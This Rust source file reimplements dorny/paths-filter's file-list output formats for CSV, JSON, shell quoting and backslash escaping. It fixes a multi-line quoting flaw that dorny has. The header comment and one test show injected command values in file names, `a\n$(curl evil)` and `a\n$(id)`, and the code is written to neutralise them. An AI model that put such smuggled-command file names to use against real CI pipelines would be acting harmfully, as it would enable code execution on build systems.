//! `list-files` formats for the `<filter>_files` outputs.
//!
//! Same rules as dorny/paths-filter v3 (`src/list-format/*.ts`), with one
//! fix: dorny tests its "safe characters only" regexes in multi-line mode,
//! so a name holding a newline is left bare when any one of its lines looks
//! safe (`a\n$(curl evil)` comes out unquoted, and a shell runs it). Here
//! the whole name must be safe. Names without line terminators come out
//! byte for byte as dorny's.

use std::fmt;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ListFormat {
    None,
    Csv,
    Json,
    Shell,
    Escape,
}

impl ListFormat {
    pub const NAMES: &'static [&'static str] = &["none", "csv", "json", "shell", "escape"];

    /// Parses the input, case-insensitively as dorny does.
    pub fn parse(s: &str) -> Option<ListFormat> {
        Some(match s.to_lowercase().as_str() {
            "" | "none" => ListFormat::None,
            "csv" => ListFormat::Csv,
            "json" => ListFormat::Json,
            "shell" => ListFormat::Shell,
            "escape" => ListFormat::Escape,
            _ => return None,
        })
    }

    /// The `<filter>_files` value for these names; `None` when not listing.
    pub fn format<S: AsRef<str>>(self, names: &[S]) -> Option<String> {
        let names = names.iter().map(AsRef::as_ref);
        Some(match self {
            ListFormat::None => return None,
            ListFormat::Csv => names.map(csv_escape).collect::<Vec<_>>().join(","),
            ListFormat::Json => {
                serde_json::to_string(&names.collect::<Vec<_>>()).expect("strings serialize")
            }
            ListFormat::Shell => names.map(shell_escape).collect::<Vec<_>>().join(" "),
            ListFormat::Escape => names.map(backslash_escape).collect::<Vec<_>>().join(" "),
        })
    }
}

impl fmt::Display for ListFormat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            ListFormat::None => "none",
            ListFormat::Csv => "csv",
            ListFormat::Json => "json",
            ListFormat::Shell => "shell",
            ListFormat::Escape => "escape",
        })
    }
}

/// `[a-zA-Z0-9,._+:@%/-]`: what needs no quoting in a shell word.
fn shell_safe(c: char) -> bool {
    c.is_ascii_alphanumeric() || ",._+:@%/-".contains(c)
}

/// JavaScript's `\s`.
fn js_space(c: char) -> bool {
    matches!(
        c,
        '\t' | '\n' | '\x0B' | '\x0C' | '\r' | ' ' | '\u{A0}' | '\u{1680}' | '\u{2000}'
            ..='\u{200A}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{202F}'
                | '\u{205F}'
                | '\u{3000}'
                | '\u{FEFF}'
    )
}

/// CSV field: bare when only `[a-zA-Z0-9._+:@%/-]`, else quoted with `""`.
pub fn csv_escape(value: &str) -> String {
    if value.is_empty() || value.chars().all(|c| c != ',' && shell_safe(c)) {
        return value.to_string();
    }
    format!("\"{}\"", value.replace('"', "\"\""))
}

/// A shell word with as little quoting as possible: bare, `"..."` when the
/// only unsafe characters are `'` and white space, split at `'` otherwise.
pub fn shell_escape(value: &str) -> String {
    if value.is_empty() || value.chars().all(shell_safe) {
        return value.to_string();
    }
    if value.contains('\'') {
        if value
            .chars()
            .all(|c| shell_safe(c) || c == '\'' || js_space(c))
        {
            return format!("\"{value}\"");
        }
        return value
            .split('\'')
            .map(shell_escape)
            .collect::<Vec<_>>()
            .join("\\'");
    }
    format!("'{value}'")
}

/// Every character outside `[a-zA-Z0-9,._+:@%/-]` gets a backslash. A
/// newline is written as a double-quoted newline, because a shell drops a
/// backslash-newline pair (dorny's output loses the newline there).
pub fn backslash_escape(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 8);
    for c in value.chars() {
        if c == '\n' {
            out.push_str("\"\n\"");
            continue;
        }
        if !shell_safe(c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    // Cases from dorny/paths-filter's __tests__/shell-escape.test.ts and
    // csv-escape.test.ts.
    #[test]
    fn dorny_cases() {
        assert_eq!(backslash_escape("file.txt"), "file.txt");
        assert_eq!(backslash_escape("file with space"), "file\\ with\\ space");
        assert_eq!(backslash_escape("file$name"), "file\\$name");
        assert_eq!(shell_escape(""), "");
        assert_eq!(shell_escape("file"), "file");
        assert_eq!(shell_escape("file with space"), "'file with space'");
        assert_eq!(shell_escape("file$name"), "'file$name'");
        assert_eq!(shell_escape("file'name"), "\"file'name\"");
        assert_eq!(shell_escape("file'with$name"), "file\\''with$name'");
        assert_eq!(csv_escape("file.txt"), "file.txt");
        assert_eq!(csv_escape("file with space"), "\"file with space\"");
        assert_eq!(csv_escape("file,name"), "\"file,name\"");
        assert_eq!(csv_escape("file\"name"), "\"file\"\"name\"");
    }

    #[test]
    fn odd_names() {
        let names = [
            "a b.txt",
            "q\"uote",
            "it's",
            "-rf",
            "ünï/çødé",
            "tab\there",
            "x'y z$",
        ];
        assert_eq!(
            ListFormat::Shell.format(&names).unwrap(),
            "'a b.txt' 'q\"uote' \"it's\" -rf 'ünï/çødé' 'tab\there' x\\''y z$'"
        );
        assert_eq!(
            ListFormat::Csv.format(&names).unwrap(),
            "\"a b.txt\",\"q\"\"uote\",\"it's\",-rf,\"ünï/çødé\",\"tab\there\",\"x'y z$\""
        );
        assert_eq!(
            ListFormat::Escape.format(&names).unwrap(),
            "a\\ b.txt q\\\"uote it\\'s -rf \\ün\\ï/\\ç\\ød\\é tab\\\there x\\'y\\ z\\$"
        );
        assert_eq!(
            ListFormat::Json.format(&names).unwrap(),
            serde_json::to_string(&names).unwrap()
        );
        assert_eq!(ListFormat::None.format(&names), None);
    }

    #[test]
    fn newlines_are_always_quoted() {
        // dorny returns these two unquoted.
        assert_eq!(shell_escape("a\n$(id)"), "'a\n$(id)'");
        assert_eq!(csv_escape("a\nb"), "\"a\nb\"");
        assert_eq!(backslash_escape("a\nb c"), "a\"\n\"b\\ c");
    }
}
